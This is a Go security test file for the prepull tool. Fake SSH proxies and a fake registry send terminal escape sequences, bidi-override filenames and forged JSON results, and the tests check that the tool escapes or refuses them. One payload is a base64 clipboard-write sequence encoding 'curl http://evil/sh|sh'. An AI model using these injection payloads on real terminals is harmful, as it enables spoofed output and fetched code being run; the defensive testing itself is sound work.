//go:build linux

package security

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"unicode/utf8"

	"github.com/prepull/prepull/internal/e2e"
	"github.com/prepull/prepull/internal/pak/paktest"
	"github.com/prepull/prepull/internal/testenv"
)

// hostileStderr is what a hostile proxy writes to its standard error, which
// prepull remote relays live: a window title (OSC 0), a screen clear and
// cursor moves that would overwrite earlier lines, a clipboard write (OSC
// 52), a bidi override, C1 controls (UTF-8 encoded and as a raw byte) and a
// lone CR, with a line that would pass for another host's.
const hostileStderr = "\x1b]0;owned\a\x1b[2J\x1b[H\n" +
	"ok\x1b[1A\x1b[2Kroot@127.0.0.1:1: pulled\n" +
	"\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaHxzaA==\a\n" +
	"gnp.\u202eexe.pak\n" +
	"csi\u009b2J raw\x9b2J\n" +
	"pulled\rfailed\n" +
	"12:00:00\tINFO\tpulling\t{\"progress\": \"\x1b[31mred\"}\n"

// hostileProxies is a fleet of real OpenSSH servers whose remote command is
// a fake prepull, the attacker: it reads the pak and then does what
// $HOSTILE (set per server) says, printing the files of that name that the
// test wrote, or sleeping.
type hostileProxies struct {
	dir        string // the modes' files and the pid files of sleepers
	script     string
	key        testenv.SSHKey
	knownHosts string
	proxies    []*testenv.SSHD
	modes      []string
}

// startHostileProxies starts one server per mode.
func startHostileProxies(t *testing.T, modes ...string) *hostileProxies {
	t.Helper()
	h := &hostileProxies{dir: t.TempDir(), key: testenv.NewSSHKey(t, ""), modes: modes}
	h.script = filepath.Join(h.dir, "prepull")
	script := fmt.Sprintf(`#!/bin/sh
# A hostile prepull: the test's attacker.
dir=%s
echo "$*" > "$dir/args"
cat >/dev/null
case "$HOSTILE" in
sleep) echo $$ > "$dir/pid-$$"; exec sleep 600 ;;
esac
cat "$dir/$HOSTILE.stderr" >&2 2>/dev/null
cat "$dir/$HOSTILE.stdout" 2>/dev/null
exit $(cat "$dir/$HOSTILE.exit" 2>/dev/null || echo 0)
`, h.dir)
	if err := os.WriteFile(h.script, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	var lines []string
	for _, m := range modes {
		s := testenv.StartSSHD(t, testenv.SSHDOptions{AuthorizedKeys: []string{h.key.Public}, Env: []string{"HOSTILE=" + m}})
		h.proxies = append(h.proxies, s)
		lines = append(lines, s.HostKeyLine(t))
	}
	h.knownHosts = filepath.Join(t.TempDir(), "known_hosts")
	e2e.WriteTestFile(t, h.knownHosts, strings.Join(lines, "\n")+"\n")
	return h
}

// say makes the proxies of mode print stdout and stderr and exit with code.
func (h *hostileProxies) say(t *testing.T, mode, stdout, stderr string, code int) {
	t.Helper()
	e2e.WriteTestFile(t, filepath.Join(h.dir, mode+".stdout"), stdout)
	e2e.WriteTestFile(t, filepath.Join(h.dir, mode+".stderr"), stderr)
	e2e.WriteTestFile(t, filepath.Join(h.dir, mode+".exit"), strconv.Itoa(code))
}

func (h *hostileProxies) dest(i int) string { return "root@" + h.proxies[i].Addr() }

// args returns the arguments of a prepull remote run on every proxy.
func (h *hostileProxies) args(extra ...string) []string {
	args := []string{"remote", "--known-hosts", h.knownHosts, "-i", h.key.Path, "--remote-command", h.script, "--connect-timeout", "5s"}
	for i := range h.proxies {
		args = append(args, "-H", h.dest(i))
	}
	return append(args, extra...)
}

// proxyResult is the JSON a one-shot prints for one pak on standard input.
func proxyResult(ref, status string, code int, errText string) string {
	b, err := json.Marshal([]map[string]any{{"file": "-", "reference": ref, "status": status, "exit_code": code, "error": errText}})
	if err != nil {
		panic(err)
	}
	return string(b)
}

// rawControls returns the characters of s that would reach a terminal raw
// and are neither a newline nor a tab: control characters, bidi overrides
// and other format characters, invalid bytes.
func rawControls(s string) []string {
	var found []string
	for i, r := range s {
		switch {
		case r == utf8.RuneError:
			found = append(found, fmt.Sprintf("byte %#x at %d", s[i], i))
		case r != '\n' && r != '\t' && !strconv.IsPrint(r):
			found = append(found, fmt.Sprintf("%U at %d", r, i))
		}
	}
	return found
}

// hostilePak writes a pak for the hostile fleet and returns its path and
// reference: the proxies never pull it.
func hostilePak(t *testing.T) (string, string) {
	p := paktest.Pak{Kind: "Hostile", Registry: "registry.example.com:5000", Digest: paktest.DigestOf("hostile")}
	return p.WriteFile(t, t.TempDir()), p.Reference("")
}

// TestRemoteHostileProxies runs prepull remote against proxies that attack
// the workstation through what they print: escape sequences on stderr,
// which is relayed live, and forged JSON results. Nothing reaches the
// terminal raw, the table has exactly one row per host, and every forged
// result is refused in its own host's row while the honest host's result
// stands.
func TestRemoteHostileProxies(t *testing.T) {
	testenv.Require(t)
	file, ref := hostilePak(t)
	h := startHostileProxies(t, "honest", "newline", "status", "tworows", "otherpak", "escapes", "garbage")
	forged := ref + "\n" + h.dest(0) + "  Other.pak  " + ref + "  pulled  1s  -"
	h.say(t, "honest", proxyResult(ref, "pulled", 0, ""), "", 0)
	h.say(t, "newline", proxyResult(forged, "pulled", 0, ""), hostileStderr, 0)
	h.say(t, "status", proxyResult(ref, "\x1b]0;owned\apulled", 0, ""), hostileStderr, 0)
	h.say(t, "tworows", "["+strings.Trim(proxyResult(ref, "pulled", 0, ""), "[]")+","+strings.Trim(proxyResult(ref, "present", 0, ""), "[]")+"]", "", 0)
	h.say(t, "otherpak", strings.Replace(proxyResult(ref, "pulled", 0, ""), `"file":"-"`, `"file":"Other.pak"`, 1), "", 0)
	h.say(t, "escapes", proxyResult(ref, "failed", 4, "unauthorized: \x1b]0;owned\a\x1b[2J\u202e\u009b2J\nroot@other  x  y  pulled"), hostileStderr, 4)
	h.say(t, "garbage", "\x1b[2Jpulled\n", hostileStderr, 0)

	f := &e2e.Fixture{T: t, Dir: t.TempDir(), Password: "unused-" + e2e.RandomWord(t)}
	r := f.Prepull(nil, h.args("--wide", file)...)
	r.Want(t, 4) // the worst row: the escapes proxy's rejected login
	t.Logf("stdout:\n%s\nstderr:\n%s", r.Stdout, r.Stderr)
	if raw := rawControls(r.Stdout); len(raw) > 0 {
		t.Errorf("stdout holds raw control characters: %v\n%q", raw, r.Stdout)
	}
	if raw := rawControls(r.Stderr); len(raw) > 0 {
		t.Errorf("stderr holds raw control characters: %v\n%q", raw, r.Stderr)
	}
	// Every stderr line is a host's, and the escapes show as escapes.
	for _, l := range strings.Split(strings.TrimSuffix(r.Stderr, "\n"), "\n") {
		if !strings.HasPrefix(l, "root@127.0.0.1:") {
			t.Errorf("stderr line without a host prefix: %q", l)
		}
	}
	for _, want := range []string{
		h.dest(1) + `: "\x1b]0;owned\a\x1b[2J\x1b[H"`,
		h.dest(1) + `: "ok\x1b[1A\x1b[2Kroot@127.0.0.1:1: pulled"`,
		h.dest(1) + `: "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaHxzaA==\a"`,
		h.dest(1) + `: "gnp.\u202eexe.pak"`,
		h.dest(1) + `: "csi\u009b2J raw\x9b2J"`,
		h.dest(1) + `: "pulled\rfailed"`,
		h.dest(1) + ": 12:00:00\tINFO\tpulling\t" + `"{\"progress\": \"\x1b[31mred\"}"`,
	} {
		if !strings.Contains(r.Stderr, want+"\n") {
			t.Errorf("stderr lacks the line %q", want)
		}
	}

	rows := r.TableRows(t)
	if len(rows) != len(h.proxies) {
		t.Fatalf("%d table rows, want %d, one per host:\n%s", len(rows), len(h.proxies), r.Stdout)
	}
	want := []struct{ status, err string }{
		{"pulled", "-"},
		{"failed", "the proxy's result is invalid: reference " + strconv.Quote(forged) + " is not the pak's " + ref},
		{"failed", `the proxy's result is invalid: status "\x1b]0;owned\apulled" is not one of pulled, present, would-pull, failed or interrupted`},
		{"failed", "the proxy's result is invalid: 2 results for the one pak sent"},
		{"failed", "the proxy's result is invalid: a result for file Other.pak, not for the pak sent on standard input"},
		{"failed", strconv.Quote("unauthorized: \x1b]0;owned\a\x1b[2J\u202e\u009b2J\nroot@other  x  y  pulled")},
		{"failed", "the proxy's result is invalid: not a JSON array of results"},
	}
	lines := strings.Split(strings.TrimSuffix(r.Stdout, "\n"), "\n")[1:]
	for i, row := range rows {
		if row[0] != h.dest(i) || row[1] != file || row[2] != ref || row[3] != want[i].status {
			t.Errorf("row %d = %q, want host %s, pak %s, %s, %s", i, row, h.dest(i), file, ref, want[i].status)
		}
		if errText := strings.Join(row[6:], " "); !strings.HasPrefix(errText, strings.Join(strings.Fields(want[i].err), " ")) {
			t.Errorf("row %d error %q\nwant %q", i, lines[i], want[i].err)
		}
	}

	// --json: the same rows, the strings exact (JSON-escaped), nothing forged.
	r = f.Prepull(nil, h.args("--json", file)...)
	r.Want(t, 4)
	results := r.RemoteResults(t)
	if len(results) != len(h.proxies) {
		t.Fatalf("%d JSON rows, want %d:\n%s", len(results), len(h.proxies), r.Stdout)
	}
	for i := range h.proxies {
		row := results[h.dest(i)+" "+file]
		if row.Reference != ref || row.Status != want[i].status {
			t.Errorf("%s: %+v, want %s with %s", h.dest(i), row, want[i].status, ref)
		}
	}
	if raw := rawControls(r.Stdout); len(raw) > 0 {
		t.Errorf("stdout of --json holds raw control characters: %v\n%q", raw, r.Stdout)
	}
}

// TestRemoteTimeoutEndsSlowHost runs prepull remote with a proxy whose
// command never ends (it ignores its own --timeout and keeps the session
// open) beside one that answers, bounded by --timeout or, without it, by
// the one-shot's default (here the configuration's timeout: 5s, long enough for the honest host on a busy machine): the run
// ends shortly after the timeout and its grace, each proxy was told that
// timeout, the slow host's row says it timed out and its command is gone,
// and the other host's result stands.
func TestRemoteTimeoutEndsSlowHost(t *testing.T) {
	testenv.Require(t)
	file, ref := hostilePak(t)
	conf := filepath.Join(t.TempDir(), "config.yaml")
	e2e.WriteTestFile(t, conf, "timeout: 5s\n")
	for _, tt := range []struct{ name, flag, value string }{
		{"--timeout", "--timeout", "5s"},
		{"no --timeout: the configuration's", "--config", conf},
	} {
		t.Run(tt.name, func(t *testing.T) {
			h := startHostileProxies(t, "honest", "sleep")
			h.say(t, "honest", proxyResult(ref, "present", 0, ""), "", 0)

			f := &e2e.Fixture{T: t, Dir: t.TempDir(), Password: "unused-" + e2e.RandomWord(t)}
			proc := e2e.StartRemote(t, f, h.args("--json", tt.flag, tt.value, file)...)
			pids := e2e.WaitPids(t, h.dir, 1)
			r := proc.Wait(t)
			r.Want(t, 1)
			results := r.RemoteResults(t)
			if row := results[h.dest(0)+" "+file]; row.Status != "present" || row.ExitCode != 0 {
				t.Errorf("the answering host: %+v, want present", row)
			}
			slow := results[h.dest(1)+" "+file]
			wantErr := "timed out: no result within --timeout 5s and 5s of grace; the remote command was ended"
			if slow.Status != "failed" || slow.ExitCode != 1 || slow.Error != wantErr || slow.Reference != ref {
				t.Errorf("the slow host: %+v\nwant failed, exit_code 1, %q", slow, wantErr)
			}
			if slow.DurationMS < 10000 {
				t.Errorf("the slow host was ended after %dms, before --timeout and its grace", slow.DurationMS)
			}
			if !strings.Contains(r.Stderr, h.dest(1)+": timed out") {
				t.Errorf("stderr does not say the slow host timed out:\n%s", r.Stderr)
			}
			if args, err := os.ReadFile(filepath.Join(h.dir, "args")); err != nil || !strings.Contains(string(args), "--timeout 5s ") {
				t.Errorf("the proxies were not told --timeout 5s: %q %v", args, err)
			}
			// The kill was sent before prepull exited; the process may take a
			// moment to die.
			for _, pid := range pids {
				if !e2e.Gone(t, pid) {
					syscall.Kill(pid, syscall.SIGKILL)
					t.Errorf("the slow host's command (pid %d) still runs", pid)
				}
			}
		})
	}
}

// TestRemoteSudoMissing runs prepull remote --sudo against a proxy where
// sudo cannot be found: the row says so, rather than that prepull is not
// installed.
func TestRemoteSudoMissing(t *testing.T) {
	testenv.Require(t)
	file, _ := hostilePak(t)
	key := testenv.NewSSHKey(t, "")
	// The session's PATH holds no sudo; the remote command is an absolute path.
	s := testenv.StartSSHD(t, testenv.SSHDOptions{AuthorizedKeys: []string{key.Public}, Env: []string{"PATH=/nonexistent"}})
	knownHosts := filepath.Join(t.TempDir(), "known_hosts")
	e2e.WriteTestFile(t, knownHosts, s.HostKeyLine(t)+"\n")
	dest := "root@" + s.Addr()

	f := &e2e.Fixture{T: t, Dir: t.TempDir(), Password: "unused-" + e2e.RandomWord(t)}
	r := f.Prepull(nil, "remote", "--json", "--sudo", "--known-hosts", knownHosts, "-i", key.Path,
		"--remote-command", testenv.Prepull(t), "-H", dest, file)
	r.Want(t, 1)
	row := r.RemoteResults(t)[dest+" "+file]
	if want := "sudo is not installed on the proxy"; row.Status != "failed" || !strings.Contains(row.Error, want) {
		t.Errorf("row %+v, want failed saying %q", row, want)
	}
	if strings.Contains(row.Error, "is prepull installed") {
		t.Errorf("row %+v blames prepull, not sudo", row)
	}
}

// hostileRegistry is a registry, the attacker, whose every answer about an
// image is an error whose text holds terminal escapes, a bidi override, C1
// controls and a newline followed by a line that would pass for a result.
func hostileRegistry(t *testing.T, message string) string {
	t.Helper()
	body, err := json.Marshal(map[string]any{"errors": []map[string]string{{"code": "MANIFEST_UNKNOWN", "message": message}}})
	if err != nil {
		t.Fatal(err)
	}
	return e2e.ServeAttacker(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Docker-Distribution-API-Version", "registry/2.0")
		w.Header().Set("Content-Type", "application/json")
		if r.URL.Path == "/v2/" {
			w.Write([]byte("{}"))
			return
		}
		w.WriteHeader(http.StatusNotFound)
		if r.Method != http.MethodHead {
			w.Write(body)
		}
	})
}

// TestOneShotHostileRegistryErrorEscaped pulls, with the real engine, from a
// registry whose error text would clear the screen, set the window title and
// forge a result line: the one-shot's result line, its logs and its --json
// output show the text escaped, and stdout has one line for the one pak.
func TestOneShotHostileRegistryErrorEscaped(t *testing.T) {
	testenv.Require(t)
	message := "\x1b]0;owned\a\x1b[2J\x1b[H\npresent   forged.pak  reg/x@sha256:00  \u202egnp.exe \u009b2J\rdone"
	addr := hostileRegistry(t, message)
	f := &e2e.Fixture{T: t, Dir: t.TempDir(), Password: "unused-" + e2e.RandomWord(t), Docker: testenv.Docker(t)}
	f.DockerConfigDir = filepath.Join(f.Dir, "docker")
	if err := os.MkdirAll(f.DockerConfigDir, 0o700); err != nil {
		t.Fatal(err)
	}
	config := f.WriteConfig("registries: []\n")
	p := paktest.Pak{Kind: "Hostile", Registry: addr, Repository: "/hostile/x", Digest: paktest.DigestOf("hostile registry")}
	file := p.WriteFile(t, f.Dir)

	r := f.Prepull(nil, "--config", config, "--verbose", file)
	t.Logf("stdout:\n%s\nstderr:\n%s", r.Stdout, r.Stderr)
	if r.Code == 0 {
		t.Fatal("the pull from the hostile registry succeeded")
	}
	if raw := rawControls(r.Stdout); len(raw) > 0 {
		t.Errorf("stdout holds raw control characters: %v\n%q", raw, r.Stdout)
	}
	if raw := rawControls(r.Stderr); len(raw) > 0 {
		t.Errorf("stderr holds raw control characters: %v\n%q", raw, r.Stderr)
	}
	lines := strings.Split(strings.TrimSuffix(r.Stdout, "\n"), "\n")
	if len(lines) != 1 || !strings.HasPrefix(lines[0], "failed     "+file+"  "+p.Reference("")+"  ") {
		t.Fatalf("stdout is not one failed line for %s:\n%s", file, r.Stdout)
	}
	if want := `\x1b]0;owned\a\x1b[2J\x1b[H\npresent   forged.pak`; !strings.Contains(lines[0], want) {
		t.Errorf("the result line does not show the registry's text escaped (%s):\n%s", want, lines[0])
	}

	r = f.Prepull(nil, "--config", config, "--json", file)
	if raw := rawControls(r.Stdout + r.Stderr); len(raw) > 0 {
		t.Errorf("--json output holds raw control characters: %v\nstdout: %q\nstderr: %q", raw, r.Stdout, r.Stderr)
	}
	rs := r.Results(t)
	if len(rs) != 1 || rs[0].Status != "failed" || !strings.Contains(rs[0].Error, message) {
		t.Errorf("--json results %+v, want one failed result whose error holds the registry's exact text", rs)
	}
}
